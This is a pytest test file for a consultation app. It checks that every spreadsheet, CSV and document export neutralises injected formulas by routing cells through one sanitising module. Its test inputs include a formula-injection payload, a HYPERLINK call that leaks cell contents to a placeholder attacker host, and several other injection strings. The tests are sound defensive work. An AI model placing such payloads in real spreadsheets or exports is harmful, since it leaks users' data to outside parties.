"""One rule for every spreadsheet consult writes (issue 11, finding 9): an injected ``=HYPERLINK(...)`` text
never reaches a file as a formula, whichever writer wrote it; and every writer goes through consult.core.cells."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest

from consult.core import cells
from tests.core.test_cells import formula_cells_csv, formula_cells_xlsx
from tests.surveys.store_helpers import make_instrument  # noqa: F401  (fixture)

ROOT = Path(__file__).resolve().parents[2] / "consult"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
# Writing a spreadsheet or CSV: a workbook made, a CSV writer, a row appended or a cell written.
WRITES = re.compile(r"openpyxl\.Workbook\(|\bWorkbook\(|xlsxwriter\.Workbook\(|csv\.writer\(|csv\.DictWriter\(")
# Modules whose workbooks hold only constants written by us (the demo's XLSForm source).
CONSTANT_ONLY = {"surveys/demo_xlsform.py"}


def _all_values(data: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_module_that_writes_a_spreadsheet_uses_the_one_rule():
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if relative == "core/cells.py" or relative in CONSTANT_ONLY:
            continue
        source = path.read_text("utf-8")
        if WRITES.search(source) and "consult.core.cells" not in source:
            offenders.append(relative)
        # A raw csv.writer bypasses the rule: cells.csv_writer is the one to use.
        if re.search(r"\bcsv\.(writer|DictWriter)\(", source):
            offenders.append(f"{relative}: csv.writer")
        # openpyxl's sheet.append writes a text starting with "=" as a formula: cells.append_row instead.
        if WRITES.search(source):
            for line in source.splitlines():
                if re.search(r"\b(\w*sheet|answers|groups|places|about|info)\.append\(", line):
                    offenders.append(f"{relative}: {line.strip()}")
    assert offenders == []


def test_the_instrument_and_translation_exports_hold_no_formula(db, make_instrument):
    from consult.surveys import content_i18n, services
    from consult.surveys.xlsform.writer import export_xlsform

    version = make_instrument()
    services.update_texts(version, "en", {"title": EVIL})
    definition = dict(version.definition)
    definition["sections"][0]["pages"][0]["questions"][0]["text"]["es"] = EVIL
    definition["sections"][0]["pages"][0]["questions"][0]["options"][0]["label"]["es"] = "@SUM(A1:A9)"
    for data in (content_i18n.export_xlsx(version, "en"), export_xlsform(definition, form_id="f")):
        assert formula_cells_xlsx(data) == []
        assert cells.safe_text(EVIL) in _all_values(data)


def test_the_answer_import_template_holds_no_formula(client, community_consultation, create_user, db):
    from consult.accounts.services import import_localities

    territory = community_consultation.territory
    import_localities(
        territory,
        "code,name,area\n66028,Cafayate,Valles Calchaquíes\n66035,Molinos,Valles Calchaquíes\n66014,Orán,Norte\n"
        f'66099,"{EVIL.replace(chr(34), chr(34) * 2)}",+Norte\n',
    )
    db.session.commit()
    user = create_user(roles={territory: ["official"]})
    client.login(user.email)
    response = client.get(f"/t/{territory.slug}/consultations/{community_consultation.id}/import/template.xlsx")
    assert response.status_code == 200
    data = response.get_data()
    assert formula_cells_xlsx(data) == []
    assert cells.safe_text(EVIL) in _all_values(data)


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-A1", "@cmd", "\t=1", "\r=1"])
def test_csv_and_docx_cells_follow_the_same_rule(text):
    out = io.StringIO()
    cells.csv_writer(out).writerow([text, 3])
    assert formula_cells_csv(out.getvalue()) == []
    from consult.plans.documents import _cell

    assert not cells.is_formula_like(_cell(text))
